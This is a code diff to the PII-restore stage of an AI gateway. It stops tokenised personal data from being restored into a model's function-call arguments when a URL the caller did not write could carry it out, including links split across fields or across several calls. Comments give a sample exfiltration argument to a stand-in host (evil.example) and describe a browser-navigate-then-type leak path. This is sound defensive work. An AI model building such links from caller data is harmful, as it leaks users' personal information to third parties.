@@ -6,9 +6,12 @@
  *  - every token of a function call's arguments, or of structured output, in which some string points
  *    somewhere (a URL, `//host`, `\\host\share`, `host:port`, an IP literal, `src=`: see
  *    pii-restore-url.ts) that the caller's own messages do not hold: a model must not turn the
- *    caller's data into an exfiltration link, within one string or split across fields. Judged per
- *    string, never per word. Otherwise a token that is the whole value (`to: "[EMAIL_1]"`) is
- *    restored, since tools need real values, and so is the caller's own URL;
+ *    caller's data into an exfiltration link, within one string, split across fields, or split across
+ *    the function calls of one answer (judged together). Judged per string, never per word. Otherwise
+ *    a token that is the whole value (`to: "[EMAIL_1]"`) is restored, since tools need real values,
+ *    and so is a whole URL the caller wrote. Not covered: state a tool keeps across turns (a browser
+ *    sent to a URL in one answer, the values typed into that page in the next); that needs the
+ *    tool's own boundary;
  *  - a token whose value completes a credential (stage 7 checked the tokenised text, so a value
  *    restored after it could finish a connection string): stage 7's checks (findCredentials, scan
  *    copy included) run again on what was restored, and a credential that only appears with the
@@ -114,7 +117,11 @@ async function restoreChecked(text: string, tokens: readonly TokenAt[], keep: Se
 }
 
 /** Punctuation around a URL in prose, not part of it. */
-const URL_WRAPPING = /^[("'<]+|[.,;:!?)"'>]+$/g;
+const URL_WRAPPING = /^[("'<[]+|[.,;:!?)"'>\]]+$/g;
+/** A URL-ish run inside the caller's words (`(see https://x/y)`, `url="https://x/y"`). */
+const CALLER_URL = /[A-Za-z][A-Za-z0-9+.-]*:[^\s<>"'`()[\]]+/g;
+/** Nothing but a scheme and slashes (`https://`): a fragment to build a link with, never a whole URL. */
+const SCHEME_ONLY = /^(?:[A-Za-z][A-Za-z0-9+.-]*:)?[\\/]*$/;
 
 /** The text the caller wrote (user and system messages, not tool outputs, documents or the model's turns). */
 function callerText(request: GatewayRequest): string {
@@ -122,6 +129,18 @@ function callerText(request: GatewayRequest): string {
     .filter((m) => m.role !== 'assistant' && (m.source === undefined || m.source === 'user'))
     .map((m) => m.content)
     .join('\n');
+}
+
+/** The caller's whole words and the URLs inside them, wrapping punctuation removed: what counts as a URL the caller wrote. */
+function callerWords(text: string): Set<string> {
+  const words = new Set<string>();
+  for (const word of text.split(/\s+/)) {
+    words.add(word);
+    words.add(word.replace(URL_WRAPPING, ''));
+    for (const m of word.matchAll(CALLER_URL)) words.add(m[0].replace(URL_WRAPPING, ''));
+  }
+  words.delete('');
+  return words;
 }
 
 /** Every string of a JSON value, keys and values, in the order restoreArguments walks them. */
@@ -139,12 +158,15 @@ function stringsOf(value: JsonValue, out: { text: string; asKey: boolean }[] = [
 }
 
 /**
- * Whether a JSON value (one call's arguments, or the structured output) points somewhere the caller
- * did not: a string holding anything URL-like, tokenised or restored, that is not text the caller
- * wrote, or pieces that only join into a URL. Then none of its tokens is restored, whole values
- * included: `{url: "https://evil.example/c?d=", d: "[EMAIL_1]"}` is one link to a tool that joins it.
+ * Whether a JSON value (one call's arguments, every call of one answer, or the structured output)
+ * points somewhere the caller did not: a string holding anything URL-like, tokenised or restored,
+ * that is not a whole URL the caller wrote, or pieces that only join into a URL. Then none of its
+ * tokens is restored, whole values included: `{url: "https://evil.example/c?d=", d: "[EMAIL_1]"}` is
+ * one link to a tool that joins it. Every string is a piece, the caller's fragments too (`https://`
+ * from the caller's own link joins `evil.example` as well as the model's would); only a whole URL the
+ * caller wrote stands apart, as a gap, so it joins with nothing.
  */
-function pointsElsewhere(value: JsonValue, restorer: Restorer, caller: () => string): boolean {
+function pointsElsewhere(value: JsonValue, restorer: Restorer, caller: () => Set<string>): boolean {
   const pieces: string[] = [];
   for (const { text } of stringsOf(value)) {
     const restored = restoreExcept(text, restorableTokens(text, restorer), new Set(), restorer).text;
@@ -153,8 +175,10 @@ function pointsElsewhere(value: JsonValue, restorer: Restorer, caller: () => str
       continue;
     }
     const written = restored.trim();
-    const callerWrote = written !== '' && (caller().includes(written) || caller().includes(written.replace(URL_WRAPPING, '')));
-    if (!callerWrote) return true;
+    const unwrapped = written.replace(URL_WRAPPING, '');
+    const wholeCallerUrl = !SCHEME_ONLY.test(unwrapped) && (caller().has(written) || caller().has(unwrapped));
+    if (!wholeCallerUrl) return true;
+    pieces.push(' ');
   }
   return joinsIntoUrl(pieces);
 }
@@ -203,7 +227,7 @@ async function restoreArguments(value: JsonValue, restore: (text: string, asKey:
  * Should the restored value, read as stage 7 reads it (one JSON text), hold more credentials than the
  * tokenised one, it keeps all its tokens.
  */
-async function restoreData(tokenised: JsonValue, restorer: Restorer, caller: () => string, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<JsonValue> {
+async function restoreData(tokenised: JsonValue, restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<JsonValue> {
   if (!restorer.authorised) return tokenised;
   if (pointsElsewhere(tokenised, restorer, caller)) {
     for (const { text } of stringsOf(tokenised)) for (const t of restorableTokens(text, restorer)) urlKept.add(t.token);
@@ -219,11 +243,21 @@ async function restoreData(tokenised: JsonValue, restorer: Restorer, caller: () 
   return restored;
 }
 
-/** The function calls with their arguments restored (see restoreData). */
-async function restoreFunctionCalls(calls: readonly FunctionCall[], restorer: Restorer, caller: () => string, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<FunctionCall[]> {
+/**
+ * The function calls with their arguments restored (see restoreData). The calls of one answer are
+ * judged together, as one value: `browser_goto` to a URL and `browser_type` of the values into its
+ * page are one exfiltration, so a URL the caller did not write in any call keeps every call's tokens.
+ */
+async function restoreFunctionCalls(calls: readonly FunctionCall[], restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<FunctionCall[]> {
+  const args = calls.map((call) => (call.arguments ?? null) as JsonValue);
+  const walkable = args.filter((a) => isJsonData(a));
+  if (restorer.authorised && pointsElsewhere(walkable, restorer, caller)) {
+    for (const { text } of stringsOf(walkable)) for (const t of restorableTokens(text, restorer)) urlKept.add(t.token);
+    return calls.map((call, i) => ({ name: call.name, arguments: args[i] as JsonValue }));
+  }
   const out: FunctionCall[] = [];
-  for (const call of calls) {
-    const tokenised = (call.arguments ?? null) as JsonValue;
+  for (const [i, call] of calls.entries()) {
+    const tokenised = args[i] as JsonValue;
     // Arguments JSON cannot hold (undefined, NaN, a class instance) are not walked for URLs: they keep their tokens.
     out.push({ name: call.name, arguments: isJsonData(tokenised) ? await restoreData(tokenised, restorer, caller, urlKept, credentialKept) : tokenised });
   }
@@ -249,8 +283,8 @@ export const piiRestore: Stage = {
     const credentialKept = new KeptTokens();
     try {
       const restorer = ctx.pii.restorer(authorised);
-      let caller: string | undefined;
-      const callerOnce = (): string => (caller ??= callerText(ctx.request));
+      let caller: Set<string> | undefined;
+      const callerOnce = (): Set<string> => (caller ??= callerWords(callerText(ctx.request)));
       if (ctx.structuredValue !== undefined) {
         // Structured output is restored as data, never as text: a value holding `"` or `\` spliced
         // into the JSON text would change its structure after stage 7 checked it. The text is the
